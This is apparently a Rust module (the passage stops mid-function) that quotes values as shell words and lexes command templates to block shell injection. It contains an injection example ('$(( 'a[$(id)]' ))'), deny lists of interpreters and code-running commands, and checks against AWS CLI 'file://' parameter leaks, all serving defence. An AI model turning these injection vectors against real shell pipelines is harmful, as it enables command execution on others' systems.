//! Shell words for fix commands: quoting values, and checking the shell text of
//! `command:` templates so that a quoted value stays one inert argument.
//!
//! Quoting ([`shell_quote`]) turns any string into one word: bare when it is made
//! of characters no shell treats specially, `'...'` otherwise, and `$'...'` with
//! escapes when it holds a character that would break the line or could hide or
//! reorder text on a terminal (controls, bidi and zero-width characters), so that
//! a printed command is one visible line and cannot forge another.
//!
//! Quoting alone does not make a `command:` template safe: a quoted word still
//! runs inside arithmetic (`$(( 'a[$(id)]' ))`), inside `"..."` its quotes are
//! literal, a here-document ignores them, `\` escapes the opening quote, and
//! `eval`, `sh -c` or `xargs` run their arguments as code. [`check_source`]
//! therefore lexes the template's literal shell text at load time and allows an
//! interpolation only as (part of) a plain unquoted word that is an argument of a
//! simple command, and [`finish`] lexes the rendered command again with the values
//! in place, refusing a value that starts a word with `-` before a `--` (it would be
//! read as an option).
//!
//! Why hand-written and no shell-parser crate: the check is security-critical and
//! must be *conservative* rather than complete. It needs to know only a few
//! contexts (quotes, substitutions, arithmetic, parameter expansion, comments,
//! here-documents, redirections, the command word), and to refuse everything else
//! around an interpolation; a full POSIX or bash parser is far larger than this
//! file, would accept more than we want to allow, and its notion of a word would
//! still have to be mapped back onto template positions. A small lexer that only
//! ever says "no" when unsure is easier to audit.
//!
//! The commands are written for bash and zsh (and POSIX sh as of 2024, which has
//! `$'...'`); only values holding control or invisible characters need `$'...'`.

use std::fmt::Write as _;

/// Marks the start of a value in a shell template's raw output. The formatter
/// writes each value as `VALUE_START`, the quoted word, `VALUE_END`; quoted words
/// never hold these control characters (they are escaped), and the literal text
/// of a template may not ([`check_source`]).
pub(crate) const VALUE_START: char = '\u{1}';
/// Marks the end of a value in a shell template's raw output.
pub(crate) const VALUE_END: char = '\u{2}';

/// Code points written as escapes besides controls (inclusive ranges, sorted):
/// every format character (Unicode category Cf, as of Unicode 15.1: bidi
/// embeddings, overrides, isolates and marks, zero-width space and joiners, BOM,
/// tags, ...), the line and paragraph separators, and the default-ignorable code
/// points drawn as nothing. The same set the CLI escapes in text output.
const INVISIBLE: &[(u32, u32)] = &[
    (0x00AD, 0x00AD),
    (0x034F, 0x034F),
    (0x0600, 0x0605),
    (0x061C, 0x061C),
    (0x06DD, 0x06DD),
    (0x070F, 0x070F),
    (0x0890, 0x0891),
    (0x08E2, 0x08E2),
    (0x115F, 0x1160),
    (0x17B4, 0x17B5),
    (0x180B, 0x180F),
    (0x200B, 0x200F),
    (0x2028, 0x202E),
    (0x2060, 0x206F),
    (0x3164, 0x3164),
    (0xFE00, 0xFE0F),
    (0xFEFF, 0xFEFF),
    (0xFFA0, 0xFFA0),
    (0xFFF0, 0xFFFB),
    (0x110BD, 0x110BD),
    (0x110CD, 0x110CD),
    (0x13430, 0x1343F),
    (0x1BCA0, 0x1BCA3),
    (0x1D173, 0x1D17A),
    (0xE0000, 0xE0FFF),
];

/// Whether `c` is written as an escape: a control character (C0, DEL, C1), a
/// format character (bidi controls, zero-width characters), a line or paragraph
/// separator, or another character drawn as nothing.
pub fn needs_escape(c: char) -> bool {
    if c.is_control() {
        return true;
    }
    let n = u32::from(c);
    n >= 0xAD
        && INVISIBLE
            .binary_search_by(|&(lo, hi)| {
                if hi < n {
                    std::cmp::Ordering::Less
                } else if lo > n {
                    std::cmp::Ordering::Greater
                } else {
                    std::cmp::Ordering::Equal
                }
            })
            .is_ok()
}

/// Quotes `s` as one shell word. Words made only of characters that no shell
/// treats specially are left bare; a word holding a control, bidi, zero-width or
/// other invisible character is written `$'...'` with those characters escaped
/// (`\n`, `\t`, `\r`, and the UTF-8 bytes of any other as `\xHH`, which bash
/// reads the same in every locale, unlike `\uHHHH`), `\` as `\\` and `'` as `\'`;
/// everything else is single-quoted, with `'` written as `'\''`. Inside single
/// quotes nothing is special, not even `$`, backticks or newlines.
///
/// A NUL cannot be part of a shell word; callers refuse values holding one before
/// quoting (here it would be written `\x00`, where bash ends the word).
///
/// Hand-written on purpose, not `shell-escape`/`shlex`: it is small and
/// security-critical (every value of every fix command passes through it), its
/// exact output has been audited and is pinned by the tests below, and the crates
/// differ from it exactly where it matters: they leave controls, bidi and
/// zero-width characters inside plain quotes (a printed command could then span
/// lines or show reordered text).
pub fn shell_quote(s: &str) -> String {
    let bare = !s.is_empty()
        && s.chars().all(|c| {
            c.is_ascii_alphanumeric()
                || matches!(c, '_' | '-' | '.' | '/' | ':' | '@' | '%' | '+' | ',' | '=')
        })
        && !s.starts_with('=');
    if bare {
        return s.to_string();
    }
    let mut out = String::with_capacity(s.len() + 3);
    if s.chars().any(needs_escape) {
        out.push_str("$'");
        for c in s.chars() {
            match c {
                '\\' => out.push_str("\\\\"),
                '\'' => out.push_str("\\'"),
                '\n' => out.push_str("\\n"),
                '\t' => out.push_str("\\t"),
                '\r' => out.push_str("\\r"),
                c if needs_escape(c) => {
                    let mut buf = [0; 4];
                    for b in c.encode_utf8(&mut buf).bytes() {
                        let _ = write!(out, "\\x{b:02x}");
                    }
                }
                c => out.push(c),
            }
        }
        out.push('\'');
        return out;
    }
    out.push('\'');
    for c in s.chars() {
        if c == '\'' {
            out.push_str("'\\''");
        } else {
            out.push(c);
        }
    }
    out.push('\'');
    out
}

/// Joins argv elements into one command line, quoting each.
pub fn shell_join<S: AsRef<str>>(argv: &[S]) -> String {
    argv.iter()
        .map(|a| shell_quote(a.as_ref()))
        .collect::<Vec<_>>()
        .join(" ")
}

/// Reads back a word [`shell_quote`] wrote (bare text, `'...'` pieces, `\x`
/// escapes and `$'...'` pieces, concatenated); `None` when it is not of that form.
pub fn shell_unquote(word: &str) -> Option<String> {
    let mut bytes = Vec::with_capacity(word.len());
    let mut rest = word;
    while let Some(c) = rest.chars().next() {
        if let Some(tail) = rest.strip_prefix("$'") {
            let mut chars = tail.char_indices();
            let end = loop {
                let (i, c) = chars.next()?;
                match c {
                    '\'' => break i + 1,
                    '\\' => match chars.next()?.1 {
                        'n' => bytes.push(b'\n'),
                        't' => bytes.push(b'\t'),
                        'r' => bytes.push(b'\r'),
                        'x' => {
                            let hex: String = [chars.next()?.1, chars.next()?.1].iter().collect();
                            bytes.push(u8::from_str_radix(&hex, 16).ok()?);
                        }
                        e @ ('\\' | '\'') => bytes.push(e as u8),
                        _ => return None,
                    },
                    c => bytes.extend_from_slice(c.encode_utf8(&mut [0; 4]).as_bytes()),
                }
            };
            rest = &tail[end..];
        } else if let Some(tail) = rest.strip_prefix('\'') {
            let end = tail.find('\'')?;
            bytes.extend_from_slice(&tail.as_bytes()[..end]);
            rest = &tail[end + 1..];
        } else if let Some(tail) = rest.strip_prefix('\\') {
            let c = tail.chars().next()?;
            bytes.extend_from_slice(c.encode_utf8(&mut [0; 4]).as_bytes());
            rest = &tail[c.len_utf8()..];
        } else {
            bytes.extend_from_slice(c.encode_utf8(&mut [0; 4]).as_bytes());
            rest = &rest[c.len_utf8()..];
        }
    }
    String::from_utf8(bytes).ok()
}

/// `s` for an error message: one line, every character [`needs_escape`] shows as
/// an escape (`\n`, `\u{202e}`), at most 120 characters.
pub(crate) fn escape_for_message(s: &str) -> String {
    const MAX: usize = 120;
    let mut out = String::new();
    for (i, c) in s.chars().enumerate() {
        if i == MAX {
            out.push('…');
            break;
        }
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if needs_escape(c) => out.extend(c.escape_unicode()),
            c => out.push(c),
        }
    }
    out
}

/// Why an argument cannot be part of a fix command.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ArgumentError {
    /// It holds a NUL byte.
    #[error("the value `{0}` contains a NUL byte, which no command argument can hold")]
    Nul(String),
    /// A value starts with `-` where the command reads options.
    #[error(
        "the value `{0}` starts with `-` and would be read as an option; write `--flag={{{{ ... }}}}`, `TYPE/{{{{ ... }}}}`, or put it after `--`"
    )]
    Option(String),
    /// A value the AWS CLI would replace by a file's or URL's content.
    #[error(
        "the value `{0}` would make the AWS CLI read a local file or URL as the parameter (it loads values that start with `file://`, `fileb://`, `http://` or `https://`)"
    )]
    AwsParamFile(String),
}

/// Value prefixes the AWS CLI replaces by what the file or URL holds.
const AWS_PARAM_FILE: &[&str] = &["file://", "fileb://", "http://", "https://"];

/// Whether `command` (a command word) is the AWS CLI.
pub(crate) fn is_aws_cli(command: &str) -> bool {
    base_name(command) == "aws"
}

/// Checks an argument of an AWS CLI command that holds a value: the parameter
/// value (after `--flag=`, or the whole argument) may not start with a prefix
/// that makes the AWS CLI load a file or URL instead (`--role-name=file://...`
/// sends the file's content, and AWS error messages echo it).
pub(crate) fn check_aws_argument(arg: &str) -> Result<(), ArgumentError> {
    let value = match arg.strip_prefix("--") {
        Some(rest) => rest.split_once('=').map_or(arg, |(_, v)| v),
        None => arg,
    };
    let lower = value.trim_start().to_ascii_lowercase();
    if AWS_PARAM_FILE.iter().any(|p| lower.starts_with(p)) {
        return Err(ArgumentError::AwsParamFile(escape_for_message(value)));
    }
    Ok(())
}

/// Checks one argument of an `argv` fix: no NUL, and no leading `-` unless
/// `option_allowed` (the element's template itself starts with `-`, or a literal
/// `--` came before it).
pub(crate) fn check_argument(arg: &str, option_allowed: bool) -> Result<(), ArgumentError> {
    if arg.contains('\0') {
        return Err(ArgumentError::Nul(escape_for_message(arg)));
    }
    if arg.starts_with('-') && !option_allowed {
        return Err(ArgumentError::Option(escape_for_message(arg)));
    }
    Ok(())
}

// ---------------------------------------------------------------------------
// The lexer of `command:` shell text.

/// Command words that run or evaluate their operands (or their input) as code,
/// or run another command that an operand names: a `command` that has one as a
/// command word interpolates nothing. No list of such programs is complete;
/// `argv` is the form to use.
#[rustfmt::skip]
const RUNS_CODE: &[&str] = &[
    // shell builtins and keywords
    ".", "[", "[[", "alias", "bind", "builtin", "case", "command", "complete", "compgen", "coproc",
    "declare", "enable", "eval", "exec", "export", "fc", "for", "function", "getopts", "hash",
    "jobs", "let", "local", "mapfile", "read", "readarray", "readonly", "select", "source",
    "test", "trap", "typeset", "unset", "wait",
    // programs that run a command named by their operands
    "at", "batch", "chroot", "chrt", "doas", "env", "expect", "find", "flock", "ionice",
    "nice", "nohup", "nsenter", "parallel", "pkexec", "runuser", "script", "setsid", "ssh",
    "stdbuf", "strace", "su", "sudo", "systemd-run", "taskset", "timeout", "unbuffer",
    "unshare", "watch", "xargs",
    // editors and stream editors with a command to run a shell
    "ed", "ex", "sed", "vi", "vim",
];

/// Interpreters: a `command` that names one anywhere as a word (the command word
/// or an argument, as in `kubectl exec POD -- sh -c ...`) interpolates nothing.
#[rustfmt::skip]
const INTERPRETERS: &[&str] = &[
    "awk", "bash", "busybox", "csh", "dash", "fish", "gawk", "ksh", "lua", "mawk", "mksh",
    "nawk", "node", "osascript", "perl", "php", "powershell", "pwsh", "python", "ruby", "sh",
    "tclsh", "tcsh", "zsh",
];

/// Words after which the next word is still in command position.
#[rustfmt::skip]
const RESERVED: &[&str] = &["!", "{", "if", "then", "else", "elif", "do", "while", "until", "time"];

/// A piece of a command: shell text of the template, or an interpolated value
/// (its quoted word once rendered; unknown at load).
#[derive(Clone, Copy, Debug)]
enum Piece<'a> {
    Text(&'a str),
    Value(Option<&'a str>),
}

/// A context the lexer is in.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Ctx {
    /// `( ... )`: a subshell (commands, values allowed).
    Paren,
    Single,
    AnsiC,
    Double,
    Backtick,
    CmdSubst,
    ProcSubst,
    /// `$(( ... ))` and `(( ... ))`.
    Arith,
    /// Parentheses inside arithmetic.
    ArithParen,
    /// `$[ ... ]`, the old arithmetic expansion.
    ArithOld,
    Param,
    ArrayAssign,
    Comment,
}

/// Why a value was refused.
#[derive(Clone, Debug, PartialEq, Eq)]
enum Refusal {
    Inside(Ctx),
    Backslash,
    Dollar,
    HereDoc,
    Redirection,
    CommandWord,
    Assignment,
    Runs(String),
    Option,
    AwsParamFile,
}

impl Refusal {
    /// The rest of a sentence whose subject is the value.
    fn reason(&self) -> String {
        match self {
            Refusal::Inside(Ctx::Single | Ctx::Double | Ctx::AnsiC) => "is inside quotes in a shell `command`; rulerun quotes every interpolated value itself, so write it without surrounding quotes".into(),
            Refusal::Inside(Ctx::Backtick) => "is inside a backtick command substitution, whose text the shell unescapes and reads again".into(),
            Refusal::Inside(Ctx::CmdSubst | Ctx::Paren) => "is inside a command substitution `$(...)`, whose output the shell splits into words and expands again".into(),
            Refusal::Inside(Ctx::ProcSubst) => "is inside a process substitution `<(...)`".into(),
            Refusal::Inside(Ctx::Arith | Ctx::ArithParen | Ctx::ArithOld) => "is inside arithmetic (`$((...))`, `((...))`), where the shell evaluates the value as an expression and `a[$(cmd)]` runs `cmd`".into(),
            Refusal::Inside(Ctx::Param) => "is inside a parameter expansion `${...}`, where quotes do not mean what they mean elsewhere".into(),
            Refusal::Inside(Ctx::ArrayAssign) => "is inside an array assignment `name=(...)`, whose subscripts the shell evaluates".into(),
            Refusal::Inside(Ctx::Comment) => "is in a comment (after an unquoted `#`), so the shell would not pass it to the command".into(),
            Refusal::Backslash => "follows a backslash, which would escape the value's opening quote".into(),
            Refusal::Dollar => "follows `$`, so the value would continue a parameter expansion (`$name`) or become `$'...'` text".into(),
            Refusal::HereDoc => "follows `<<`: in a here-document quotes mean nothing, so the value would be read as text or code".into(),
            Refusal::Redirection => "is the target of a redirection, a file the shell would open or overwrite".into(),
            Refusal::CommandWord => "is the command word, so the value would choose the command to run".into(),
            Refusal::Assignment => "is in a variable assignment, so the value would set a variable (`PATH`, `LD_PRELOAD`) for the command".into(),
            Refusal::Runs(word) => format!("is in a `command` that runs `{word}`, which runs or evaluates its arguments or input as code, so a quoted value can still execute"),
            Refusal::Option => "starts with `-` and would be read as an option; write `--flag={{ ... }}`, `TYPE/{{ ... }}`, or put it after `--`".into(),
            Refusal::AwsParamFile => "would make the AWS CLI read a local file or URL as the parameter (it loads values that start with `file://`, `fileb://`, `http://` or `https://`)".into(),
        }
    }
}

/// A refused value: the index of its piece and why.
#[derive(Debug)]
struct Refused {
    piece: usize,
    why: Refusal,
}

/// Where a word's first character comes from.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Lead {
    /// Nothing yet (empty quotes and expansions do not count: they may be empty).
    #[default]
    None,
    Literal,
    Value,
    /// A value whose first character is `-`.
    DashValue,
}

#[derive(Debug, Default)]
struct Word {
    started: bool,
    /// The literal characters, quotes removed.
    text: String,
    /// Holds an expansion or a value.
    dynamic: bool,
    lead: Lead,
    /// The piece that gave `lead` when it is a value.
    lead_piece: usize,
    /// The literal characters and the values (once rendered), quotes removed.
    full: String,
    /// The first value in the word.
    value_piece: Option<usize>,
}

impl Word {
    /// `NAME=`, `NAME+=` or `NAME[...]=` at the start: an assignment (in command
    /// position).
    fn is_assignment(&self) -> bool {
        let t = self.text.as_str();
        let name_end = t
            .char_indices()
            .find(|&(i, c)| !(c == '_' || c.is_ascii_alphabetic() || (i > 0 && c.is_ascii_digit())))
            .map_or(t.len(), |(i, _)| i);
        if name_end == 0 {
            return false;
        }
        let mut rest = &t[name_end..];
        if rest.starts_with('[') {
            match rest.find(']') {
                Some(i) => rest = &rest[i + 1..],
                None => return false,
            }
        }
        rest.starts_with('=') || rest.starts_with("+=")
    }
}

#[derive(Clone, Debug)]
struct Command {
    /// The next word is the command word.
    position: bool,
    /// A literal `--` argument came before.
    dashdash: bool,
    /// The next word is a redirection target.
    redirect: bool,
    /// The command word, once read.
    name: String,
}

impl Default for Command {
    fn default() -> Self {
        Command {
            position: true,
            dashdash: false,
            redirect: false,
            name: String::new(),
        }
    }
}

#[derive(Debug)]
struct Frame {
    ctx: Ctx,
    /// The command and word outside, for contexts that hold commands of their own.
    saved: Option<(Command, Word)>,
    /// A backtick substitution's text, lexed when it closes for what it runs.
    content: String,
}

#[derive(Debug, Default)]
struct Lexer {
    stack: Vec<Frame>,
    cmd: Command,
    word: Word,
    /// A `<<` was seen: everything after may be a here-document.
    heredoc: bool,
    /// A command word or interpreter that runs code, first seen.
    runs: Option<String>,
    first_value: Option<usize>,
    /// The text ended with an unquoted backslash.
    backslash: bool,
    /// The text ended with `$` or `$name`.
    dollar: bool,
}

fn base_name(word: &str) -> &str {
    let base = word.rsplit('/').next().unwrap_or(word);
    // `python3.12`, `bash5`: the interpreter's name without its version
    let trimmed = base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    if trimmed.is_empty() { base } else { trimmed }
}

impl Lexer {
    fn push(&mut self, ctx: Ctx) {
        self.stack.push(Frame {
            ctx,
            saved: None,
            content: String::new(),
        });
    }

    /// Enters a context that holds commands of its own.
    fn push_nested(&mut self, ctx: Ctx) {
        let saved = (
            std::mem::take(&mut self.cmd),
            std::mem::take(&mut self.word),
        );
        self.stack.push(Frame {
            ctx,
            saved: Some(saved),
            content: String::new(),
        });
    }

    fn pop(&mut self) {
        let Some(frame) = self.stack.pop() else {
            return;
        };
        if frame.ctx == Ctx::Backtick {
            // what the substitution runs counts as what the command runs
            let mut inner = Lexer::default();
            let _ = inner.text(&frame.content.replace("\\`", "`"));
            let _ = inner.end_word();
            if let Some(runs) = inner.runs {
                self.runs.get_or_insert(runs);
            }
        }
        if let Some((cmd, word)) = frame.saved {
            self.cmd = cmd;
            self.word = word;
            if frame.ctx == Ctx::Paren {
                self.cmd.position = false;
            }
        }
    }

    fn top(&self) -> Option<Ctx> {
        self.stack.last().map(|f| f.ctx)
    }

    fn start(&mut self) {
        self.word.started = true;
    }

    fn literal(&mut self, c: char) {
        self.word.started = true;
        self.word.text.push(c);
        self.word.full.push(c);
        if self.word.lead == Lead::None {
            self.word.lead = Lead::Literal;
        }
    }

    fn dynamic(&mut self) {
        self.word.started = true;
        self.word.dynamic = true;
    }

    fn separator(&mut self) {
        self.cmd = Command::default();
    }

    fn end_word(&mut self) -> Result<(), Refused> {
        if !self.word.started {
            return Ok(());
        }
        let w = std::mem::take(&mut self.word);
        if self.cmd.redirect {
            self.cmd.redirect = false;
            return Ok(());
        }
        if self.cmd.position {
            if w.is_assignment() || (!w.dynamic && RESERVED.contains(&w.text.as_str())) {
                return Ok(());
            }
            self.cmd.position = false;
            if w.dynamic {
                self.runs
                    .get_or_insert_with(|| "a command word that is not plain text".into());
            } else {
                let base = base_name(&w.text);
                if RUNS_CODE.contains(&w.text.as_str())
                    || RUNS_CODE.contains(&base)
                    || INTERPRETERS.contains(&base)
                {
                    self.runs.get_or_insert_with(|| w.text.clone());
                }
            }
            self.cmd.name = w.text;
            return Ok(());
        }
        if !w.dynamic {
            if INTERPRETERS.contains(&base_name(&w.text)) {
                self.runs.get_or_insert_with(|| w.text.clone());
            }
            if base_name(&self.cmd.name) == "printf" && w.text == "-v" {
                self.runs.get_or_insert_with(|| "printf -v".into());
            }
        }
        if w.lead == Lead::DashValue && !self.cmd.dashdash {
            return Err(Refused {
                piece: w.lead_piece,
                why: Refusal::Option,
            });
        }
        if let Some(piece) = w.value_piece
            && is_aws_cli(&self.cmd.name)
            && check_aws_argument(&w.full).is_err()
        {
            return Err(Refused {
                piece,
                why: Refusal::AwsParamFile,
            });
        }
        if !w.dynamic && w.text == "--" {
            self.cmd.dashdash = true;
        }
        Ok(())
    }

    /// A value: refused unless it stands in a plain word that is an argument.
    fn value(&mut self, piece: usize, quoted: Option<&str>) -> Result<(), Refused> {
        let refuse = |why| Err(Refused { piece, why });
        if self.backslash {
            return refuse(Refusal::Backslash);
        }
        if self.dollar {
            return refuse(Refusal::Dollar);
        }
        if let Some(frame) = self.stack.iter().find(|f| f.ctx != Ctx::Paren) {
            return refuse(Refusal::Inside(frame.ctx));
        }
        if self.heredoc {
            return refuse(Refusal::HereDoc);
        }
        if self.cmd.redirect {
            return refuse(Refusal::Redirection);
        }
        if self.cmd.position {
            return refuse(if self.word.started && self.word.is_assignment() {
                Refusal::Assignment
            } else {
                Refusal::CommandWord
            });
        }
        self.first_value.get_or_insert(piece);
        self.dynamic();
        self.word.value_piece.get_or_insert(piece);
        if let Some(q) = quoted {
            self.word
                .full
                .push_str(&shell_unquote(q).unwrap_or_else(|| q.to_string()));
        }
        if let Some(q) = quoted
            && self.word.lead == Lead::None
            && q != "''"
        {
            let dash = q.starts_with('-') || q.starts_with("'-") || q.starts_with("$'-");
            self.word.lead = if dash { Lead::DashValue } else { Lead::Value };
            self.word.lead_piece = piece;
        }
        Ok(())
    }

    /// After a `$` at `chars[*k - 1]`.
    fn dollar(&mut self, chars: &[char], k: &mut usize, in_double: bool) {
        let next = chars.get(*k).copied();
        match next {
            Some('(') if chars.get(*k + 1) == Some(&'(') => {
                *k += 2;
                self.dynamic();
                self.push(Ctx::Arith);
            }
            Some('(') => {
                *k += 1;
                self.dynamic();
                self.push_nested(Ctx::CmdSubst);
            }
            Some('{') => {
                *k += 1;
                self.dynamic();
                self.push(Ctx::Param);
            }
            Some('[') => {
                *k += 1;
                self.dynamic();
                self.push(Ctx::ArithOld);
            }
            Some('\'') if !in_double => {
                *k += 1;
                self.start();
                self.push(Ctx::AnsiC);
            }
            Some('"') if !in_double => {
                *k += 1;
                self.start();
                self.push(Ctx::Double);
            }
            Some(c) if c == '_' || c.is_ascii_alphabetic() => {
                self.dynamic();
                while chars
                    .get(*k)
                    .is_some_and(|c| *c == '_' || c.is_ascii_alphanumeric())
                {
                    *k += 1;
                }
                self.dollar = *k == chars.len();
            }
            Some(c) if c.is_ascii_digit() || "@*#?$!-".contains(c) => {
                *k += 1;
                self.dynamic();
            }
            Some(_) => self.literal('$'),
            None => {
                self.literal('$');
                self.dollar = true;
            }
        }
    }

    fn text(&mut self, text: &str) -> Result<(), Refused> {
        self.backslash = false;
        self.dollar = false;
        let chars: Vec<char> = text.chars().collect();
        let mut k = 0;
        while let Some(&c) = chars.get(k) {
            k += 1;
            let next = chars.get(k).copied();
            match self.top() {
                Some(Ctx::Single) => {
                    if c == '\'' {
                        self.pop();
                    } else {
                        self.literal(c);
                    }
                }
                Some(Ctx::AnsiC) => match c {
                    '\'' => self.pop(),
                    '\\' => {
                        k += 1;
                        self.literal('\\');
                    }
                    c => self.literal(c),
                },
                Some(Ctx::Comment) => {
                    if c == '\n' {
                        self.pop();
                        self.end_word()?;
                        self.separator();
                    }
                }
                Some(Ctx::Backtick) => match c {
                    '`' => self.pop(),
                    c => {
                        if let Some(frame) = self.stack.last_mut() {
                            frame.content.push(c);
                            if c == '\\'
                                && let Some(n) = next
                            {
                                frame.content.push(n);
                                k += 1;
                            }
                        }
                    }
                },
                Some(Ctx::Double) => match c {
                    '"' => self.pop(),
                    '\\' => {
                        if let Some(n) = next {
                            k += 1;
                            self.literal(n);
                        }
                    }
                    '$' => self.dollar(&chars, &mut k, true),
                    '`' => self.push(Ctx::Backtick),
                    c => self.literal(c),
                },
                Some(ctx @ (Ctx::Arith | Ctx::ArithParen | Ctx::ArithOld | Ctx::Param)) => {
                    match c {
                        '(' if ctx != Ctx::Param => self.push(Ctx::ArithParen),
                        ')' if ctx == Ctx::ArithParen => self.pop(),
                        ')' if ctx == Ctx::Arith && next == Some(')') => {
                            k += 1;
                            self.pop();
                        }
                        ')' if ctx == Ctx::Arith => {
                            // `$( (cmd) ...)`: a command substitution after all;
                            // stay inside it.
                            if let Some(frame) = self.stack.last_mut() {
                                frame.ctx = Ctx::CmdSubst;
                            }
                        }
                        ']' if ctx == Ctx::ArithOld => self.pop(),
                        '}' if ctx == Ctx::Param => self.pop(),
                        '\\' => k += 1,
                        '\'' => self.push(Ctx::Single),
                        '"' => self.push(Ctx::Double),
                        '`' => self.push(Ctx::Backtick),
                        '$' => self.dollar(&chars, &mut k, false),
                        _ => {}
                    }
                }
                None | Some(Ctx::Paren | Ctx::CmdSubst | Ctx::ProcSubst | Ctx::ArrayAssign) => {
                    self.command_char(c, next, &chars, &mut k)?;
                }
            }
        }
        if k > chars.len() {
            // A backslash escaped what follows the text: the value.
            self.backslash = true;
        }
        Ok(())
    }

    fn command_char(
        &mut self,
        c: char,
        next: Option<char>,
        chars: &[char],
        k: &mut usize,
    ) -> Result<(), Refused> {
        match c {
            ' ' | '\t' => self.end_word()?,
            '\n' => {
                self.end_word()?;
                self.separator();
            }
            ';' | '|' => {
                self.end_word()?;
                if matches!(next, Some(';' | '|' | '&')) {
                    *k += 1;
                }
                self.separator();
            }
            '&' => {
                self.end_word()?;
                if next == Some('>') {
                    *k += 1;
                    if chars.get(*k) == Some(&'>') {
                        *k += 1;
                    }
                    self.cmd.redirect = true;
                } else {
                    if next == Some('&') {
                        *k += 1;
                    }
                    self.separator();
                }
            }
            '<' | '>' if next == Some('(') => {
                *k += 1;
                self.dynamic();
                self.push_nested(Ctx::ProcSubst);
            }
            '<' | '>' => {
                // digits right before the operator name a file descriptor
                if self.word.started
                    && !self.word.dynamic
                    && !self.word.text.is_empty()
                    && self.word.text.chars().all(|c| c.is_ascii_digit())
                {
                    self.word = Word::default();
                } else {
                    self.end_word()?;
                }
                if c == '<' && next == Some('<') {
                    self.heredoc = true;
                    while matches!(chars.get(*k), Some('<' | '-')) {
                        *k += 1;
                    }
                } else if matches!(next, Some('>' | '|' | '&')) || (c == '<' && next == Some('>')) {
                    *k += 1;
                }
                self.cmd.redirect = true;
            }
            '(' => {
                if self.word.started && self.word.text.ends_with('=') && self.word.is_assignment() {
                    self.push_nested(Ctx::ArrayAssign);
                } else if self.cmd.position && !self.word.started && next == Some('(') {
                    *k += 1;
                    self.dynamic();
                    self.push(Ctx::Arith);
                } else {
                    self.end_word()?;
                    self.push_nested(Ctx::Paren);
                }
            }
            ')' => {
                self.end_word()?;
                if self.top().is_some() {
                    self.pop();
                } else {
                    self.separator();
                }
            }
            '#' if !self.word.started => self.push(Ctx::Comment),
            '\'' => {
                self.start();
                self.push(Ctx::Single);
            }
            '"' => {
                self.start();
                self.push(Ctx::Double);
            }
            '\\' => {
                self.start();
                if let Some(n) = next {
                    *k += 1;
                    if n != '\n' {
                        self.literal(n);
                    }
                } else {
                    *k += 1;
                }
            }
            '`' => {
                self.dynamic();
                self.push(Ctx::Backtick);
            }
            '$' => {
                self.start();
                self.dollar(chars, k, false);
            }
            c => self.literal(c),
        }
        Ok(())
    }
}

fn lex(pieces: &[Piece<'_>]) -> Result<(), Refused> {
    let mut lx = Lexer::default();
    for (i, piece) in pieces.iter().enumerate() {
        match piece {
            Piece::Text(t) => lx.text(t)?,
            Piece::Value(q) => {
                lx.value(i, *q)?;
                lx.backslash = false;
                lx.dollar = false;
            }
        }
    }
    lx.end_word()?;
    while lx.top().is_some() {
        lx.pop();
        lx.end_word()?;
    }
    match (lx.runs, lx.first_value) {
        (Some(word), Some(piece)) => Err(Refused {
            piece,
            why: Refusal::Runs(word),
        }),
        _ => Ok(()),
    }
}

/// 1-based line and column of byte `offset` in `source`.
pub(super) fn line_col(source: &str, offset: usize) -> (usize, usize) {
    let before = source.get(..offset).unwrap_or(source);
    let line = before.matches('\n').count() + 1;
    let col = before.rsplit('\n').next().map_or(0, |l| l.chars().count()) + 1;
    (line, col)
}

/// Checks the source of a `command:` template at load time: its literal shell
/// text may hold values only as (part of) plain words that are arguments of a
/// simple command (see the module docs), it may hold no `{% %}` statement (the
/// shell text must not depend on a condition), no control character, and no
/// `safe`/`escape` filter. The error names the interpolation and its line and
/// column in the template.
pub(crate) fn check_source(source: &str) -> Result<(), String> {
    use minijinja::machinery::ast::Stmt;

    if let Some((i, c)) = source
        .char_indices()
        .find(|&(_, c)| c.is_control() && c != '\n' && c != '\t')
    {
        let (line, col) = line_col(source, i);
        return Err(format!(
            "the shell text of a `command` holds the control character `{}` (template line {line}, column {col})",
            c.escape_unicode()
        ));
    }
    // A template that does not parse fails to compile with minijinja's own error.
    let Ok(Stmt::Template(t)) = minijinja::machinery::parse(source, "template", Default::default())
    else {
        return Ok(());
    };
    // The template's raw texts (adjacent ones, around a comment, joined) and a
    // `None` for each value.
    let mut texts: Vec<Option<String>> = Vec::new();
    let mut holes: Vec<(usize, usize)> = Vec::new();
    for child in &t.children {
        match child {
            Stmt::EmitRaw(raw) => match texts.last_mut() {
                Some(Some(text)) => text.push_str(raw.raw),
                _ => texts.push(Some(raw.raw.to_string())),
            },
            Stmt::EmitExpr(e) => {
                // the span is the expression's: widen it to its `{{ ... }}`
                let span = e.span();
                let (start, end) = (span.start_offset as usize, span.end_offset as usize);
                let open = source
                    .get(..start)
                    .and_then(|s| s.rfind("{{"))
                    .unwrap_or(start);
                let close = source
                    .get(end..)
                    .and_then(|s| s.find("}}"))
                    .map_or(end, |i| end + i + 2);
                let range = (open, close);
                let block = source.get(range.0..range.1).unwrap_or("{{ }}");
                check_filters(block)?;
                holes.push(range);
                texts.push(None);
            }
            other => {
                let at = stmt_offset(other);
                let open = source.get(..at).and_then(|s| s.rfind("{%")).unwrap_or(at);
                let (line, col) = line_col(source, open);
                return Err(format!(
                    "`{{% ... %}}` statements are not allowed in a shell `command` (template line {line}, column {col}): its shell text must not depend on a condition or loop; give the fix step an `if:`, or use `argv`"
                ));
            }
        }
    }
    let pieces: Vec<Piece<'_>> = texts
        .iter()
        .map(|t| t.as_deref().map_or(Piece::Value(None), Piece::Text))
        .collect();
    lex(&pieces).map_err(|refused| {
        let value_index = pieces[..refused.piece]
            .iter()
            .filter(|p| matches!(p, Piece::Value(_)))
            .count();
        let (start, end) = holes.get(value_index).copied().unwrap_or((0, 0));
        let (line, col) = line_col(source, start);
        let block = source.get(start..end).unwrap_or("{{ }}");
        format!(
            "`{block}` (template line {line}, column {col}) {}",
            refused.why.reason()
        )
    })
}

fn stmt_offset(stmt: &minijinja::machinery::ast::Stmt<'_>) -> usize {
    use minijinja::machinery::ast::Stmt;
    let span = match stmt {
        Stmt::Template(s) => s.span(),
        Stmt::EmitExpr(s) => s.span(),
